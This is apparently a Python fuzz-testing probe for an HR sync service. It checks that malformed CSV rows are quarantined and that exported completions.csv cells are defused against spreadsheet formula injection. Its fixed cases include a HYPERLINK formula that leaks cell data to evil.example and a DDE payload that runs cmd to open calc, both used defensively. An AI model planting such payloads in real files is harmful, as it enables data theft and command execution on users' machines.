"""Probe `hr_fuzz`: malformed HR rows about people and enrollments syncd already synced.

A base world (the example HR export, Docebo in-process on a FakeClock) is synced once;
each case starts from a copy of its database and of the simulator, changes one row,
and runs one cycle. Fixed cases: fields over 131,072 characters, NUL bytes, due dates
like 31/12/2026 or 2026-02-30, ids starting with = + - @ (`=HYPERLINK(...)`); then rows
drawn by hypothesis (any text, NULs, long values, formula prefixes, dates in other
shapes) in the fields HR rules do not read. Invariants: the cycle does not crash; no
person is deactivated and no enrollment removed; a row that is bad by the rules of
docs/hr-files.md (`is_bad`) is quarantined with its file and line; completions.csv has
no cell that a spreadsheet would run as a formula (formula-like ids are defused there).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import time
from dataclasses import dataclass
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from benchmarks.reliability import dbcheck
from benchmarks.reliability.outcome import (
    DAMAGE,
    WRONG,
    ProbeContext,
    ProbeResult,
    Tally,
    Violation,
    average,
)
from benchmarks.reliability.world import InProcess, read_rows, silenced

NAME = "hr_fuzz"
CSV_FIELD_LIMIT = 131_072  # Python's csv default: the probe's long values go past it
STORED_LIMIT = 255  # characters in a column syncd keeps as text (docs/hr-files.md)
# The columns syncd keeps as text; other people columns are attributes and may be long.
PEOPLE_STORED = ("employee_id", "email", "first_name", "last_name", "status", "org_unit")
STORED = {
    "people": frozenset({*PEOPLE_STORED, "manager_id", "username"}),
    "enrollments": frozenset({"employee_id", "course_code", "due_date"}),
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
REMOVALS = frozenset({"deactivate_user", "delete_user", "unenroll"})
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
# People fields that no [[groups]] rule reads: changing them moves nobody between groups.
FUZZED_PEOPLE_FIELDS = ("first_name", "last_name", "email", "manager_id", "job_title")
Tables = dict[str, list[dict[str, str]]]


@dataclass(frozen=True, slots=True)
class Mutation:
    """One row changed (or added): `table`, the row's key, the field and its new value."""

    table: str  # people | enrollments
    key: tuple[str, ...]  # (employee_id,) or (employee_id, course_code)
    column: str
    value: str
    adds: bool = False  # a new row with this value, instead of a change to an existing one

    @property
    def label(self) -> str:
        shown = self.value if len(self.value) < 40 else f"{self.value[:20]}…({len(self.value)})"
        return f"{self.table} {'/'.join(self.key)} {self.column}={shown!r}"


def is_bad(m: Mutation) -> bool:
    """Bad by docs/hr-files.md, so quarantined: a NUL anywhere; more than 255 characters in
    a column syncd stores as text; a due date that is not yyyy-mm-dd. (An attribute may be
    long; an id that starts like a formula is accepted and defused in completions.csv.)"""
    value = m.value.strip()
    if "\0" in value or (m.column in STORED[m.table] and len(value) > STORED_LIMIT):
        return True
    return m.column == "due_date" and bool(value) and not _iso_date(value)


def _iso_date(text: str) -> bool:
    if len(text) != 10 or not text.isascii():
        return False
    try:
        dt.date.fromisoformat(text)
    except ValueError:
        return False
    return True


FIXED = (
    Mutation("people", ("E1005",), "job_title", "x" * (CSV_FIELD_LIMIT + 1)),
    Mutation("people", ("E1010",), "last_name", "y" * (CSV_FIELD_LIMIT + 1)),
    Mutation("people", ("E1006",), "last_name", "L" * (STORED_LIMIT + 1)),
    Mutation("enrollments", ("E1002", "SALES-301"), "due_date", "2" * (CSV_FIELD_LIMIT + 1)),
    Mutation("people", ("E1007",), "first_name", "Ma\0ria"),
    Mutation("people", ("E1008",), "email", "jonas\0@example.com"),
    Mutation("enrollments", ("E1012", "ENG-210"), "due_date", "2026-03-13\0"),
    Mutation("enrollments", ("E1002", "SALES-301"), "due_date", "31/12/2026"),
    Mutation("enrollments", ("E1005", "SALES-301"), "due_date", "2026-02-30"),
    Mutation("people", ("E1009",), "manager_id", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Mutation("people", (HYPERLINK,), "employee_id", HYPERLINK, adds=True),
    Mutation("people", ("+E2001",), "employee_id", "+E2001", adds=True),
    Mutation("people", ("-2+3",), "employee_id", "-2+3", adds=True),
    Mutation("enrollments", ("E1003", HYPERLINK), "course_code", HYPERLINK, adds=True),
)


# --- hypothesis: rows drawn at random --------------------------------------------------


def texts() -> st.SearchStrategy[str]:
    """Any text, text with a NUL, formula-like text, text around the stored-column and CSV
    field limits."""
    return st.one_of(
        st.text(max_size=30),
        st.builds(lambda a, b: f"{a}\0{b}", st.text(max_size=10), st.text(max_size=10)),
        st.builds(lambda c, a: c + a, st.sampled_from(FORMULA_STARTS), st.text(max_size=20)),
        st.integers(STORED_LIMIT - 2, STORED_LIMIT + 2).map(lambda n: "z" * n),
        st.integers(CSV_FIELD_LIMIT - 2, CSV_FIELD_LIMIT + 2).map(lambda n: "z" * n),
    )


def dates() -> st.SearchStrategy[str]:
    shapes = ("%d/%m/%Y", "%m/%d/%Y", "%Y-%m-%d", "%Y%m%d", "%d.%m.%Y", "%Y-%m-%dT00:00")
    return st.one_of(
        st.builds(lambda d, f: d.strftime(f), st.dates(), st.sampled_from(shapes)),
        st.from_regex(r"\A\d{4}-\d{2}-\d{2}\Z"),
        texts(),
    )


def mutations(people: list[str], enrollments: list[tuple[str, str]]) -> st.SearchStrategy[Mutation]:
    person = st.builds(
        lambda e, c, v: Mutation("people", (e,), c, v),
        st.sampled_from(people),
        st.sampled_from(FUZZED_PEOPLE_FIELDS),
        texts(),
    )
    due = st.builds(
        lambda k, v: Mutation("enrollments", k, "due_date", v),
        st.sampled_from(enrollments),
        dates(),
    )
    return st.one_of(person, due)


# --- the worlds ------------------------------------------------------------------------


class Base:
    """The synced world every case starts from: its database file and Docebo's state."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(parents=True)
        world = InProcess(folder, ["docebo"])
        try:
            report = world.runtime.run_once(dry_run=False, force=False)
        finally:
            world.close()
        status = report.targets[0].status
        if status != "ok":
            raise RuntimeError(
                f"the base world did not sync: {status}: {report.targets[0].message}"
            )
        self.database = folder / "syncd.db"
        self.state = world.lms["docebo"].sim.dump_state()
        self.tables: Tables = {
            "people": read_rows(folder / "hr" / "people.csv"),
            "enrollments": read_rows(folder / "hr" / "enrollments.csv"),
        }
        self.count = 0

    def keys(self) -> tuple[list[str], list[tuple[str, str]]]:
        people = [row["employee_id"] for row in self.tables["people"]]
        pairs = [(row["employee_id"], row["course_code"]) for row in self.tables["enrollments"]]
        return people, pairs

    def case(self, workdir: Path, m: Mutation) -> list[Violation]:
        """One cycle after `m`, from a copy of the base; the invariants it broke."""
        self.count += 1
        folder = workdir / f"case-{self.count}"
        folder.mkdir()
        for suffix in ("", "-wal", "-shm"):
            source = self.database.with_name(self.database.name + suffix)
            if source.exists():
                shutil.copy(source, folder / source.name)
        world = InProcess(folder, ["docebo"], database_url=f"sqlite:///{folder / 'syncd.db'}")
        try:
            world.lms["docebo"].sim.load_state(self.state)
            line = write_tables(folder / "hr", self.tables, m)
            return _cycle(world, m, line)
        finally:
            world.close()
            shutil.rmtree(folder, ignore_errors=True)


def write_tables(hr: Path, tables: Tables, m: Mutation) -> int:
    """Write people.csv and enrollments.csv with `m` applied (its row last); its line."""
    changed = {name: [dict(row) for row in rows] for name, rows in tables.items()}
    rows = changed[m.table]
    if m.adds:
        row = _new_row(m, list(rows[0]))
    else:
        row = next(r for r in rows if _key(m.table, r) == m.key)
        rows.remove(row)
        row[m.column] = m.value
    rows.append(row)
    line = 0
    for name, table_rows in changed.items():
        text = _csv_text(table_rows)
        (hr / f"{name}.csv").write_text(text, encoding="utf-8", newline="")
        if name == m.table:
            line = _lines(_csv_text(table_rows[:-1])) + 1
    return line


def _key(table: str, row: dict[str, str]) -> tuple[str, ...]:
    if table == "people":
        return (row["employee_id"],)
    return (row["employee_id"], row["course_code"])


def _new_row(m: Mutation, columns: list[str]) -> dict[str, str]:
    row = dict.fromkeys(columns, "")
    if m.table == "enrollments":
        return {**row, "employee_id": m.key[0], "course_code": m.value}
    return {
        **row,
        "employee_id": m.value,
        "first_name": "Fuzz",
        "last_name": "Person",
        "email": f"fuzz.{abs(hash(m.value)) % 10**8}@example.com",
        "status": "active",
        "org_unit": "SAL",
        "department": "Sales",
        "country": "DE",
    }


def _csv_text(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]) if rows else ["employee_id"])
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _lines(text: str) -> int:
    """Physical lines as syncd's CSV reader counts them (newline="": \\r, \\n, \\r\\n)."""
    return len(io.StringIO(text, newline="").readlines())


def _cycle(world: InProcess, m: Mutation, line: int) -> list[Violation]:
    world.clock.advance(900)
    try:
        report = world.runtime.run_once(dry_run=False, force=False)
    except Exception as err:  # noqa: BLE001 - an escaping exception is the finding
        return [
            Violation(WRONG, f"{m.label}: the cycle crashed: {type(err).__name__}: {err}"[:300])
        ]
    found = [
        Violation(DAMAGE, f"{m.label}: planned and ran {op.kind} {op.key}")
        for t in report.targets
        for op in t.operations
        if op.kind in REMOVALS
    ][:1]
    if is_bad(m) and not _quarantined(world.database_url, f"{m.table}.csv", line):
        found.append(Violation(WRONG, f"{m.label}: not quarantined ({m.table}.csv line {line})"))
    cell = formula_cell(world.folder / "export" / "completions.csv")
    if cell:
        found.append(Violation(WRONG, f"{m.label}: completions.csv has a formula cell {cell!r}"))
    return found


def _quarantined(url: str, source: str, line: int) -> bool:
    found = dbcheck.rows(
        url,
        "SELECT count(*) FROM quarantine WHERE source_file = :source AND line = :line "
        "AND import_id = (SELECT max(id) FROM hr_imports)",
        source=source,
        line=line,
    )
    return bool(found[0][0])


def formula_cell(path: Path) -> str | None:
    """The first cell of the file a spreadsheet would run as a formula (numbers are fine)."""
    if not path.exists():
        return None
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if cell.startswith(FORMULA_STARTS) and not _number(cell):
                    return cell[:60]
    return None


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- the probe -------------------------------------------------------------------------


def run(ctx: ProbeContext) -> ProbeResult:
    tally = ctx.tally(NAME)
    started = time.monotonic()
    with silenced():
        base = Base(ctx.workdir / "base")
        for m in FIXED:
            tally.trial(base.case(ctx.workdir, m))
            tally.note("fixed rows")
        ctx.say(f"{NAME}: {len(FIXED)} fixed cases, {tally.failures} failed")
        per_case = average(time.monotonic() - started, tally.trials, 1.0)
        examples = 5 if ctx.quick else max(10, int(ctx.left() / per_case))
        fuzz(base, ctx, tally, examples)
    ctx.say(f"{NAME}: {tally.trials} cases, {tally.failures} failed")
    return tally.result(time.monotonic() - started)


def fuzz(base: Base, ctx: ProbeContext, tally: Tally, examples: int) -> None:
    """`examples` rows drawn by hypothesis, each one a case (no shrinking: every case
    counts, the first bad one is reported as drawn)."""
    people, pairs = base.keys()

    @settings(
        max_examples=examples,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @seed(ctx.seed)
    @given(mutations(people, pairs))
    def draw(m: Mutation) -> None:
        if ctx.left() > 0 or tally.trials < len(FIXED) + 3:
            tally.trial(base.case(ctx.workdir, m))
            tally.note("rows drawn by hypothesis")

    draw()
